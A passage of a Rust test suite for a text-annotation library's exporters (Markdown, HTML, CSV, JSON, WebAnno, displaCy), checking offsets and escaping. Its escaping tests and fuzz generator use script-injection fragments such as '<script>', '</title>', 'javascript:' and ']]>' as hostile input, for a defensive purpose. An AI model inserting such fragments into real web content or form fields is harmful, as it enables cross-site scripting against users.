}

#[test]
fn markdown_quotes_reslice_in_code_points() {
    for (name, doc) in docs() {
        let out = export_with(&doc, Format::Markdown, &ExportOptions::default());
        assert!(out.contains("Unicode code points"), "states its offset unit");
        let lines: Vec<&str> = out.lines().collect();
        let mut found = 0;
        for (i, line) in lines.iter().enumerate() {
            let Some(pos) = line.find("· code points ") else { continue };
            let range = &line[pos + "· code points ".len()..];
            let (s, e) = range.split_once('–').unwrap();
            let got = slice_in(&doc.text, OffsetUnit::Codepoint, s.parse().unwrap(), e.parse().unwrap());
            let q = &doc.quotes[found];
            assert_eq!(got, q.span.slice(&doc.text), "{name}");
            // The quote's own line, two lines up, is the escaped, flattened text.
            let shown = lines[i - 2].strip_prefix("> ").unwrap();
            assert_eq!(unescape_md(shown), flatten_space(&got));
            found += 1;
        }
        assert_eq!(found, doc.quotes.len(), "{name}");
    }
}

#[test]
fn markdown_summary_names_and_counts() {
    let out = export::to_string(&unicode_doc(), Format::Markdown, &ExportOptions::default());
    assert!(out.starts_with("# Article summary\n"));
    assert!(out.contains("11 mentions of 11 names; 3 quotes, 2 attributed to 2 speakers."), "{out}");
    assert!(out.contains("### People (5)"));
    assert!(out.contains("- **Genève** — 1 mention (city, CH, GeoNames 2660646)"));
    assert!(out.contains("- *Unattributed* — 1 quote"));
    assert!(out.contains("### Organisations (2)\n\n- **国際連合** — 1 mention\n- **Siemens AG** — 1 mention"));
}

#[test]
fn markdown_marks_an_unresolved_pronoun_speaker() {
    let doc = Annotator::new().unwrap().annotate("“We will win,” he said.").unwrap();
    let out = export::to_string(&doc, Format::Markdown, &ExportOptions::default());
    assert!(out.contains("- **he** (not identified) — 1 quote"), "{out}");
}

#[test]
fn markdown_escapes_hostile_input() {
    let out = export::to_string(&hostile_doc(), Format::Markdown, &hostile_options());
    // Every `<`, `[`, `]` and `&` (all from the input) is backslash-escaped.
    for (i, c) in out.char_indices().filter(|(_, c)| matches!(c, '<' | '[' | ']' | '&')) {
        assert_eq!(out[..i].chars().last(), Some('\\'), "unescaped {c:?} at {i}: {:?}", &out[i.saturating_sub(20)..i]);
    }
    assert!(!out.contains("](javascript"));
    assert!(out.starts_with("# \\</title\\>\\<script\\>"), "{out}");
    assert!(out.contains("- **@Evil Corp** — 1 quote"));
    // A quote's line break cannot end the block quote.
    assert!(
        out.contains("> “Line one, with a comma, line \"two\" \\& \\<b\\>bold\\</b\\> \\*stars\\* \\[link\\]"),
        "{out}"
    );
}

// ---------------------------------------------------------------- any input

mod any_input {
    use super::*;
    use proptest::prelude::*;

    /// Text drawn from characters that are hard to escape or to count.
    fn nasty() -> impl Strategy<Value = String> {
        let pieces = prop::sample::select(vec![
            "a",
            "Z",
            " ",
            "\n",
            "\r\n",
            "\t",
            "é",
            "e\u{301}",
            "😀",
            "🇩🇪",
            "東",
            "\u{0}",
            "\u{feff}",
            "\u{2028}",
            "<",
            ">",
            "&",
            "\"",
            "'",
            "“",
            "”",
            "=",
            "+",
            "-",
            "@",
            ",",
            ";",
            "*",
            "[",
            "]",
            "(",
            ")",
            "#",
            "\\",
            "`",
            "|",
            "<script>",
            "</div>",
            "-->",
            "]]>",
            "&amp;",
            "javascript:",
        ]);
        prop::collection::vec(pieces, 0..60).prop_map(|v| v.concat())
    }

    /// A document over `text` with mentions and quotes at arbitrary char
    /// boundaries (sorted, possibly overlapping or nested).
    fn arbitrary_doc(text: String, cuts: Vec<(usize, usize, u8)>) -> Document {
        let bounds: Vec<usize> = text.char_indices().map(|(i, _)| i).chain([text.len()]).collect();
        let mut doc = annotator().annotate(&text).unwrap();
        doc.mentions.clear();
        doc.quotes.clear();
        let mut spans: Vec<(ByteSpan, u8)> = cuts
            .into_iter()
            .map(|(a, b, k)| {
                let (a, b) = (bounds[a % bounds.len()], bounds[b % bounds.len()]);
                (ByteSpan::new(a.min(b), a.max(b)), k)
            })
            .filter(|(s, _)| !s.is_empty())
            .collect();
        spans.sort();
        for (span, k) in spans {
            if k % 3 == 0 {
                doc.quotes.push(Quote { span, kind: QuoteKind::Direct, speaker: None, entity: None, cue: None });
            } else {
                let label = Label::ALL[usize::from(k) % 4];
                doc.mentions.push(Mention { span, tokens: TokenSpan::default(), label, entity: 0, score: 0.5 });
            }
        }
        group(&mut doc);
        doc
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn every_format_reads_back(
            text in nasty(),
            cuts in prop::collection::vec((0usize..400, 0usize..400, 0u8..12), 0..12),
        ) {
            let doc = arbitrary_doc(text, cuts);
            let options = ExportOptions { title: Some(doc.text.clone()), url: Some(doc.text.clone()), ..ExportOptions::default() };
            for format in Format::ALL {
                let out = export::to_string(&doc, format, &options);
                match format {
                    Format::Json | Format::WebAnno | Format::Displacy => {
                        prop_assert!(serde_json::from_str::<Value>(&out).is_ok(), "{format:?}");
                    }
                    Format::CsvMentions | Format::CsvQuotes => {
                        let (_, rows) = read_csv(&out);
                        let n = if format == Format::CsvMentions { doc.mentions.len() } else { doc.quotes.len() };
                        prop_assert_eq!(rows.len(), n);
                    }
                    Format::Html => {
                        prop_assert!(!out.to_ascii_lowercase().contains("<script"));
                        let html = parse_html(&out);
                        let article = html.select(&sel("div.article")).next().unwrap();
                        // The HTML parser drops NUL and turns CR LF and CR into LF, as
                        // every browser does; everything else comes back unchanged.
                        let expect = doc.text.replace("\r\n", "\n").replace('\r', "\n").replace('\u{0}', "");
                        let got: String = article.text().collect();
                        prop_assert_eq!(got, expect);
                        prop_assert_eq!(html.select(&sel("script")).count(), 0);
                    }
                    Format::Markdown => {
                        for (i, _) in out.match_indices(['<', '[', '`']) {
                            prop_assert!(out[..i].ends_with('\\'), "unescaped at {} in {:?}", i, out);
                        }
                    }
                }
            }
        }
    }
}

// ---------------------------------------------------------------- real pipeline output

/// The same round trips on what the real pipeline finds in the text fixtures
/// (whatever this build's tagger and quote finder produce).
#[test]
fn real_pipeline_output_reslices_in_every_format() {
    for name in ["news_mixed.txt", "unicode.txt", "crlf_nbsp.txt"] {
        let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/text").join(name);
        let doc = annotator().annotate(&std::fs::read_to_string(path).unwrap()).unwrap();
        let text = doc.text.as_str();
        let (h, rows) = read_csv(&export::to_string(&doc, Format::CsvMentions, &unit_opts(OffsetUnit::Utf16)));
        assert_eq!(rows.len(), doc.mentions.len());
        for (row, m) in rows.iter().zip(&doc.mentions) {
            let (s, e) = (row[col(&h, "start")].parse().unwrap(), row[col(&h, "end")].parse().unwrap());
            assert_eq!(slice_in(text, OffsetUnit::Utf16, s, e), m.span.slice(text), "{name}");
        }
        let (h, rows) = read_csv(&export::to_string(&doc, Format::CsvQuotes, &unit_opts(OffsetUnit::Codepoint)));
        for (row, q) in rows.iter().zip(&doc.quotes) {
            let (s, e) = (row[col(&h, "start")].parse().unwrap(), row[col(&h, "end")].parse().unwrap());
            assert_eq!(slice_in(text, OffsetUnit::Codepoint, s, e), q.span.slice(text), "{name}");
        }
        let anno: Value =
            serde_json::from_str(&export::to_string(&doc, Format::WebAnno, &ExportOptions::default())).unwrap();
        for a in anno["first"]["items"].as_array().unwrap() {
            let selectors = &a["target"]["selector"];
            let (quote, pos) = (&selectors[0], &selectors[1]);
            let got =
                slice_in(text, OffsetUnit::Codepoint, pos["start"].as_u64().unwrap(), pos["end"].as_u64().unwrap());
            assert_eq!(got, quote["exact"].as_str().unwrap(), "{name}");
            let (prefix, suffix) = (quote["prefix"].as_str().unwrap(), quote["suffix"].as_str().unwrap());
            assert!(text.contains(&format!("{prefix}{got}{suffix}")));
        }
        let displacy: Value =
            serde_json::from_str(&export::to_string(&doc, Format::Displacy, &ExportOptions::default())).unwrap();
        for (e, m) in displacy["ents"].as_array().unwrap().iter().zip(&doc.mentions) {
            let got = slice_in(text, OffsetUnit::Codepoint, e["start"].as_u64().unwrap(), e["end"].as_u64().unwrap());
            assert_eq!(got, m.span.slice(text), "{name}");
        }
        let html = parse_html(&export::to_string(&doc, Format::Html, &ExportOptions::default()));
        let marks = html.select(&sel("div.article mark[data-start]")).count();
        if doc.mentions.windows(2).all(|w| w[0].span.end <= w[1].span.start) {
            assert_eq!(marks, doc.mentions.len(), "{name}");
        }
    }
}

/// HTML input in article mode: the page's title and language are used when
/// the caller gives no title.
#[test]
fn article_metadata_fills_the_title() {
    let page = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/html/article.html");
    let page = std::fs::read_to_string(page).unwrap();
    let doc = annotator().annotate_html(&page, &HtmlOptions { mode: Mode::Article }).unwrap();
    let article = doc.html.as_ref().and_then(|h| h.article.clone()).expect("article metadata");
    let title = article.title.expect("the fixture has a title");
    let html = parse_html(&export::to_string(&doc, Format::Html, &ExportOptions::default()));
    assert_eq!(html.select(&sel("title")).next().unwrap().text().collect::<String>(), title);
    assert_eq!(html.root_element().value().attr("lang"), article.lang.as_deref());
    let md = export::to_string(&doc, Format::Markdown, &ExportOptions::default());
    assert!(md.starts_with(&format!("# {title}\n")), "{md}");
    let given = ExportOptions { title: Some("Given".into()), ..ExportOptions::default() };
    let displacy: Value = serde_json::from_str(&export::to_string(&doc, Format::Displacy, &given)).unwrap();
    assert_eq!(displacy["title"], "Given", "an explicit title wins");
}
